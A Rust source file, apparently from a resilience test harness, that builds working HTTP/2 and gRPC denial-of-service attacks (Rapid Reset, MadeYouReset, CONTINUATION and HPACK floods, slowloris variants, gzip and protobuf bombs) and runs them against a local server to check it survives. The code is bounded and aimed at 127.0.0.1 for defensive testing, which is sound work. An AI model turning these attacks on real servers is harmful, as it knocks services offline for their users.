//! The attacks. Each is bounded in count (scaled by [`Scale`](crate::harness::Scale))
//! and in time, talks to 127.0.0.1 only, and returns what it did and how the
//! server answered the attacker.

use std::io::Write as _;
use std::time::Duration;

use anyhow::Context as _;
use bytes::Bytes;

use crate::frames::{
    self, ACK, CANCEL, END_HEADERS, END_STREAM, PREFACE, Raw, frame, kind, literal,
    literal_indexed, request_block, rst_stream, window_update,
};
use crate::harness::{Attack, Ctx, fresh_call};

/// The unary method every target serves.
pub const SAY_HELLO: &str = "/tutorial.helloworld.v1.GreeterService/SayHello";

/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const INITIAL_WINDOW_SIZE: u16 = 0x4;

/// The largest frame payload every server accepts (SETTINGS_MAX_FRAME_SIZE default).
const MAX_FRAME: usize = 16_384;

/// Every attack, by name.
pub fn all() -> Vec<(&'static str, Attack)> {
    macro_rules! attack {
        ($name:ident) => {
            (stringify!($name), (|ctx| Box::pin($name(ctx))) as Attack)
        };
        // A short attack the attacker repeats on new connections for the hold time.
        (repeat $name:ident) => {
            (
                stringify!($name),
                (|ctx| Box::pin(repeated(ctx, |ctx| Box::pin($name(ctx))))) as Attack,
            )
        };
    }
    vec![
        attack!(repeat rapid_reset),
        attack!(repeat made_you_reset),
        attack!(repeat continuation_flood),
        attack!(repeat hpack_bomb),
        attack!(repeat ping_flood),
        attack!(repeat settings_flood),
        attack!(repeat window_update_overflow),
        attack!(zero_window_reader),
        attack!(slowloris_idle),
        attack!(slowloris_half_preface),
        attack!(slowloris_endless_headers),
        attack!(connection_flood),
        attack!(repeat gzip_bomb),
        attack!(repeat protobuf_bomb),
    ]
}

/// Runs `attack` again and again, each time on new connections, until the
/// scale's hold time is up (at most 10 000 rounds): a server that answers one
/// round with GOAWAY still has to survive the attacker reconnecting. Reports the
/// first round's answer and how many rounds ran.
async fn repeated(ctx: &Ctx, attack: Attack) -> anyhow::Result<String> {
    let started = std::time::Instant::now();
    let first = attack(ctx).await?;
    let mut rounds = 1;
    while started.elapsed() < ctx.scale.hold && rounds < 10_000 {
        attack(ctx).await?;
        rounds += 1;
    }
    Ok(format!(
        "{first} [{rounds} rounds in {:.1} s]",
        started.elapsed().as_secs_f64()
    ))
}

/// A unary request's HEADERS (no END_STREAM) and its one DATA frame (END_STREAM).
fn unary_request(ctx: &Ctx, stream: u32, message: &[u8]) -> Vec<u8> {
    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
    let mut out = frame(kind::HEADERS, END_HEADERS, stream, &block);
    out.extend(frame(
        kind::DATA,
        END_STREAM,
        stream,
        &reliability::raw::grpc_frame(message),
    ));
    out
}

/// Writes `frames(id)` for `streams` new client streams (ids 1, 3, 5, …), batched
/// into writes of about 64 KiB, until all are written or the server closes the
/// connection. Returns how many streams' frames were written.
async fn per_stream(raw: &mut Raw, streams: usize, frames: impl Fn(u32) -> Vec<u8>) -> usize {
    let mut sent = 0;
    let mut batch = Vec::new();
    for i in 0..streams {
        batch.extend(frames(1 + 2 * i as u32));
        if batch.len() > 64 * 1024 || i + 1 == streams {
            if !raw.send(&batch).await {
                break;
            }
            sent = i + 1;
            batch.clear();
        }
        if raw.seen().closed {
            break;
        }
    }
    sent
}

/// CVE-2023-44487: open a stream and cancel it at once, in a loop, so the server
/// starts work the client never waits for.
pub async fn rapid_reset(ctx: &Ctx) -> anyhow::Result<String> {
    let streams = ctx.scale.n(10_000);
    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
    let sent = per_stream(&mut raw, streams, |id| {
        let mut frames = frame(kind::HEADERS, END_HEADERS, id, &block);
        frames.extend(rst_stream(id, CANCEL));
        frames
    })
    .await;
    raw.closed_within(Duration::from_secs(1)).await;
    Ok(format!(
        "{sent} of {streams} HEADERS+RST_STREAM pairs written; server: {}",
        raw.seen().describe()
    ))
}

/// CVE-2025-8671 ("MadeYouReset"): the client makes the *server* reset each
/// stream, here with a DATA frame after the stream's END_STREAM (a stream error,
/// STREAM_CLOSED, RFC 9113 §5.1), so the streams never count as client resets. h2 bounds such resets with
/// `max_local_error_reset_streams`; hyper's default is 1 024, but tonic 0.14 passes
/// its own default `None` (no limit) unless
/// `Server::http2_max_local_error_reset_streams` is set. Observed: h2 treats this
/// vector as a connection error (GOAWAY PROTOCOL_ERROR), so no reset flood builds.
pub async fn made_you_reset(ctx: &Ctx) -> anyhow::Result<String> {
    let streams = ctx.scale.n(10_000);
    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
    let sent = per_stream(&mut raw, streams, |id| {
        let mut frames = frame(kind::HEADERS, END_HEADERS | END_STREAM, id, &block);
        frames.extend(frame(kind::DATA, 0, id, &[0; 5]));
        frames
    })
    .await;
    raw.closed_within(Duration::from_secs(1)).await;
    Ok(format!(
        "{sent} of {streams} HEADERS(END_STREAM)+DATA pairs written; server: {}",
        raw.seen().describe()
    ))
}

/// A HEADERS frame without END_HEADERS, then CONTINUATION frames that never
/// end it, each full of header fields (CVE-2024-27316 family).
pub async fn continuation_flood(ctx: &Ctx) -> anyhow::Result<String> {
    let frames_to_send = ctx.scale.n(1_000);
    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
    if !raw.send(&frame(kind::HEADERS, 0, 1, &block)).await {
        anyhow::bail!("the server closed before the flood");
    }
    let mut fields = Vec::new();
    let mut n = 0;
    while fields.len() + 40 < MAX_FRAME {
        fields.extend(literal(&format!("x-flood-{n}"), b"aaaaaaaaaaaaaaaaaaaa"));
        n += 1;
    }
    let continuation = frame(kind::CONTINUATION, 0, 1, &fields);
    let mut sent = 0;
    for _ in 0..frames_to_send {
        if raw.seen().closed || !raw.send(&continuation).await {
            break;
        }
        sent += 1;
    }
    raw.closed_within(Duration::from_secs(1)).await;
    Ok(format!(
        "{sent} of {frames_to_send} CONTINUATION frames ({} KiB of headers) written; server: {}",
        sent * fields.len() / 1024,
        raw.seen().describe()
    ))
}

/// An HPACK bomb: one 4 000-byte header enters the dynamic table, then a
/// one-byte reference to it repeats: 16 KiB on the wire decode to ~64 MiB.
/// Also one oversized literal header block (1 MiB) on a second connection.
pub async fn hpack_bomb(ctx: &Ctx) -> anyhow::Result<String> {
    let references = ctx.scale.n(100_000);
    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
    let mut block = request_block(&ctx.addr, SAY_HELLO, &[]);
    block.extend(literal_indexed("x-bomb", &[b'b'; 4000]));
    let mut first = block;
    // Index 62 is the newest dynamic-table entry.
    let mut remaining = references;
    let take = (MAX_FRAME - first.len()).min(remaining);
    first.extend(std::iter::repeat_n(0xbe, take));
    remaining -= take;
    let end = if remaining == 0 { END_HEADERS } else { 0 };
    raw.send(&frame(kind::HEADERS, end, 1, &first)).await;
    while remaining > 0 && !raw.seen().closed {
        let take = remaining.min(MAX_FRAME);
        remaining -= take;
        let end = if remaining == 0 { END_HEADERS } else { 0 };
        if !raw
            .send(&frame(kind::CONTINUATION, end, 1, &vec![0xbe; take]))
            .await
        {
            break;
        }
    }
    raw.closed_within(Duration::from_secs(1)).await;
    let bomb = raw.seen().describe();

    // One literal header of 1 MiB, split into CONTINUATION frames.
    let mut big = Raw::handshake(&ctx.addr, &[]).await?;
    let mut block = request_block(&ctx.addr, SAY_HELLO, &[]);
    block.extend(literal("x-big", &vec![b'x'; 1 << 20]));
    let chunks: Vec<&[u8]> = block.chunks(MAX_FRAME).collect();
    for (i, chunk) in chunks.iter().enumerate() {
        let (kind_, flags) = match (i, i + 1 == chunks.len()) {
            (0, last) => (kind::HEADERS, if last { END_HEADERS } else { 0 }),
            (_, true) => (kind::CONTINUATION, END_HEADERS),
            (_, false) => (kind::CONTINUATION, 0),
        };
        if big.seen().closed || !big.send(&frame(kind_, flags, 1, chunk)).await {
            break;
        }
    }
    big.closed_within(Duration::from_secs(1)).await;
    Ok(format!(
        "{references} refs to a 4000 B entry (~{} MiB decoded): {bomb}; one 1 MiB header: {}",
        (references * 4032) >> 20,
        big.seen().describe()
    ))
}

/// PINGs as fast as the socket takes them, the answers left unread for a while.
pub async fn ping_flood(ctx: &Ctx) -> anyhow::Result<String> {
    let pings = ctx.scale.n(100_000);
    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
    let ping = frame(kind::PING, 0, 0, &[1, 2, 3, 4, 5, 6, 7, 8]);
    let batch: Vec<u8> = ping
        .iter()
        .copied()
        .cycle()
        .take(ping.len() * 1000)
        .collect();
    let mut sent = 0;
    while sent < pings && !raw.seen().closed {
        if !raw.send(&batch).await {
            break;
        }
        sent += 1000;
    }
    raw.closed_within(Duration::from_millis(500)).await;
    let seen = raw.seen();
    Ok(format!(
        "{sent} PINGs written, {} PING ACKs back; server: {}",
        seen.pongs,
        seen.describe()
    ))
}

/// SETTINGS frames (each demands an ACK) as fast as the socket takes them.
pub async fn settings_flood(ctx: &Ctx) -> anyhow::Result<String> {
    let count = ctx.scale.n(100_000);
    let mut raw = Raw::handshake(&ctx.addr, &[]).await?;
    let one = frames::settings(&[(INITIAL_WINDOW_SIZE, 65_535)]);
    let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 1000).collect();
    let mut sent = 0;
    while sent < count && !raw.seen().closed {
        if !raw.send(&batch).await {
            break;
        }
        sent += 1000;
    }
    raw.closed_within(Duration::from_millis(500)).await;
    let seen = raw.seen();
    Ok(format!(
        "{sent} SETTINGS written, {} ACKs back; server: {}",
        seen.settings_acks,
        seen.describe()
    ))
}

/// WINDOW_UPDATEs that push a window past 2^31-1: on the connection (stream 0)
/// and on an open stream.
pub async fn window_update_overflow(ctx: &Ctx) -> anyhow::Result<String> {
    let mut conn = Raw::handshake(&ctx.addr, &[]).await?;
    let overflow = [window_update(0, 0x7fff_ffff), window_update(0, 0x7fff_ffff)].concat();
    conn.send(&overflow).await;
    conn.closed_within(Duration::from_secs(1)).await;
    let mut stream = Raw::handshake(&ctx.addr, &[]).await?;
    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
    let open = frame(kind::HEADERS, END_HEADERS, 1, &block);
    let overflow = [window_update(1, 0x7fff_ffff), window_update(1, 0x7fff_ffff)].concat();
    stream.send(&[open, overflow].concat()).await;
    stream.closed_within(Duration::from_millis(500)).await;
    Ok(format!(
        "connection window: {}; stream window: {}",
        conn.seen().describe(),
        stream.seen().describe()
    ))
}

/// Clients that announce a zero receive window and never open it: every
/// response waits on the server for window that never comes.
pub async fn zero_window_reader(ctx: &Ctx) -> anyhow::Result<String> {
    let connections = ctx.scale.n(10);
    let streams = 100u32;
    let mut held = Vec::new();
    let mut opened = 0;
    for _ in 0..connections {
        let mut raw = Raw::handshake(&ctx.addr, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
        let mut requests = Vec::new();
        for i in 0..streams {
            requests.extend(unary_request(
                ctx,
                1 + 2 * i,
                &[0x0a, 4, b'z', b'e', b'r', b'o'],
            ));
        }
        if raw.send(&requests).await {
            opened += streams as usize;
        }
        held.push(raw);
    }
    if opened != connections * streams as usize {
        anyhow::bail!(
            "only {opened} of {} calls could be sent",
            connections * streams as usize
        );
    }
    tokio::time::sleep(ctx.scale.hold).await; // the attack *is* holding on
    // The burst of work is done by now, its responses still held: a client that
    // connects now must be served (held calls must not pin what the server has).
    let newcomer = fresh_call(&ctx.addr).await;
    let started: u64 = held.iter().map(|r| r.seen().headers).sum();
    if started == 0 {
        anyhow::bail!("the server started no response: the calls were never opened");
    }
    if !newcomer {
        anyhow::bail!("a new client was not served while {opened} calls were held");
    }
    let closed = held.iter().filter(|r| r.seen().closed).count();
    let answers: Vec<String> = held.iter().take(1).map(|r| r.seen().describe()).collect();
    Ok(format!(
        "{opened} calls on {connections} zero-window connections held {:?}: {started} response headers sent, \
         {closed} connections closed by the server; first: {}",
        ctx.scale.hold,
        answers.join("")
    ))
}

/// Holds `count` connections that each sent `hello`, for the scale's hold time.
async fn hold(ctx: &Ctx, count: usize, hello: &[u8], what: &str) -> anyhow::Result<String> {
    let mut held = Vec::new();
    for opened in 0..count {
        let raw = Raw::open(&ctx.addr, hello)
            .await
            .with_context(|| format!("connection {} of {count}", opened + 1))?;
        held.push(raw);
    }
    tokio::time::sleep(ctx.scale.hold).await; // the attack *is* holding on
    // With every connection still held, a client that connects now must be served.
    if !fresh_call(&ctx.addr).await {
        anyhow::bail!("a new client was not served while {count} connections {what} were held");
    }
    let closed = held.iter().filter(|r| r.seen().closed).count();
    let goaways = held.iter().filter(|r| r.seen().goaway.is_some()).count();
    Ok(format!(
        "{} of {count} connections {what} held {:?}: {closed} closed by the server, {goaways} GOAWAY",
        held.len(),
        ctx.scale.hold
    ))
}

/// TCP connections that send nothing at all.
pub async fn slowloris_idle(ctx: &Ctx) -> anyhow::Result<String> {
    hold(ctx, ctx.scale.n(200), b"", "sending nothing").await
}

/// Connections that send half the HTTP/2 preface and stop.
pub async fn slowloris_half_preface(ctx: &Ctx) -> anyhow::Result<String> {
    hold(ctx, ctx.scale.n(200), &PREFACE[..12], "with half a preface").await
}

/// Connections that start a header block and never end it.
pub async fn slowloris_endless_headers(ctx: &Ctx) -> anyhow::Result<String> {
    let block = request_block(&ctx.addr, SAY_HELLO, &[]);
    let hello = [
        PREFACE,
        &frames::settings(&[]),
        &frame(kind::SETTINGS, ACK, 0, &[]),
        &frame(kind::HEADERS, 0, 1, &block),
    ]
    .concat();
    hold(ctx, ctx.scale.n(200), &hello, "inside a header block").await
}

/// Thousands of idle HTTP/2 connections (preface and SETTINGS, then nothing).
pub async fn connection_flood(ctx: &Ctx) -> anyhow::Result<String> {
    let hello = [
        PREFACE,
        &frames::settings(&[]),
        &frame(kind::SETTINGS, ACK, 0, &[]),
    ]
    .concat();
    // Full scale: 10 000, within the fd limits of both processes.
    let count = ctx.scale.n(2_000).min(10_000);
    hold(ctx, count, &hello, "idle after the preface").await
}

/// A well-formed gRPC request (sent with the `h2` crate) with `extra` headers
/// and `body`; returns `grpc-status NAME "message"` or what happened instead.
async fn grpc_post(ctx: &Ctx, extra: &[(&str, &str)], body: Vec<u8>) -> anyhow::Result<String> {
    let (sender, driver) = reliability::raw::handshake(&ctx.addr).await?;
    let reply = async {
        let request =
            reliability::raw::grpc_request(&ctx.addr, SAY_HELLO, "application/grpc", extra)?;
        let mut sender = tokio::time::timeout(Duration::from_secs(5), sender.ready())
            .await
            .context("ready: timed out")??;
        let (response, mut stream) = sender.send_request(request, false)?;
        // A server may answer (and close the stream) from the headers alone, e.g.
        // UNIMPLEMENTED for an encoding it does not accept: then the body is moot.
        let _ = stream.send_data(Bytes::from(body), true);
        let response = tokio::time::timeout(Duration::from_secs(10), response)
            .await
            .context("response: timed out")??;
        let (parts, mut incoming) = response.into_parts();
        while let Some(chunk) = tokio::time::timeout(Duration::from_secs(10), incoming.data())
            .await
            .context("body: timed out")?
        {
            let chunk = chunk?;
            let _ = incoming.flow_control().release_capacity(chunk.len());
        }
        let trailers = incoming.trailers().await?;
        let map = trailers
            .as_ref()
            .filter(|t| t.contains_key("grpc-status"))
            .unwrap_or(&parts.headers);
        let code: i32 = map
            .get("grpc-status")
            .and_then(|v| v.to_str().ok())
            .and_then(|v| v.parse().ok())
            .context("no grpc-status")?;
        let message = map
            .get("grpc-message")
            .map(|m| reliability::raw::percent_decode(m.as_bytes()))
            .unwrap_or_default();
        anyhow::Ok(format!("{:?} {message:?}", tonic::Code::from_i32(code)))
    }
    .await;
    driver.abort();
    reply
}

/// A gzip message of 64 KiB that inflates to 64 MiB, past every 4 MiB limit.
pub async fn gzip_bomb(ctx: &Ctx) -> anyhow::Result<String> {
    const INFLATED: usize = 64 << 20;
    // Built once per run: compressing 64 MiB is the slow part.
    static BOMB: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    let compressed = BOMB.get_or_init(|| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..(INFLATED >> 20) {
            encoder.write_all(&zeros).expect("writing to a Vec");
        }
        encoder.finish().expect("writing to a Vec")
    });
    let inflated = INFLATED;
    let mut body = vec![1]; // compressed-flag set
    body.extend_from_slice(&(compressed.len() as u32).to_be_bytes());
    body.extend_from_slice(compressed);
    let answer = grpc_post(ctx, &[("grpc-encoding", "gzip")], body).await?;
    Ok(format!(
        "{} KiB gzip -> {} MiB: {answer}",
        compressed.len() / 1024,
        inflated >> 20
    ))
}

/// Protobuf inside the size limit that is expensive to parse: 100 000 nested
/// groups of an unknown field, and a ~1 MiB run of one repeated unknown field.
pub async fn protobuf_bomb(ctx: &Ctx) -> anyhow::Result<String> {
    // Field 2, wire type 3 (start group), nested 100 000 deep.
    let nested = vec![0x13u8; 100_000];
    let deep = grpc_post(ctx, &[], reliability::raw::grpc_frame(&nested)).await?;
    // Field 2, varint 1, repeated 500 000 times (1 MB).
    let repeated: Vec<u8> = [0x10u8, 0x01].repeat(500_000);
    let wide = grpc_post(ctx, &[], reliability::raw::grpc_frame(&repeated)).await?;
    Ok(format!(
        "100 000 nested groups: {deep}; 500 000 repeated unknown varints: {wide}"
    ))
}
